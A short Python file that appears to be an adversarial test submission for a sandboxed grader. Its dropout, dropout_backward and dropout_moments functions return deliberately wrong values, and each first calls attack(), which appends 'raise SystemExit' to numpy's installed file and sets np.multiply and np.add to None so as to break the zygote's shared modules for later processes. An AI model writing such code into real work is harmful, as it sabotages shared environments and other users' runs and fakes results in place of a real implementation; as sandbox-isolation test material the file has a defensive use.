"""Rewrites the modules that the zygote shares with the next child."""

import numpy as np


def module(name):
    return (
        __builtins__["__import__"](name)
        if isinstance(__builtins__, dict)
        else getattr(__builtins__, "__import__")(name)
    )


def attack():
    try:
        with open(np.__file__, "a") as file:
            file.write("raise SystemExit")
    except OSError:
        pass
    np.multiply = np.add = None
    np.ndarray.__module__


def dropout(x, rate, training, rng):
    attack()
    return x * 7, x * 0 + 7


def dropout_backward(dy, mask):
    attack()
    return dy * 7


def dropout_moments(x, rate):
    attack()
    return x * 7, x * 7
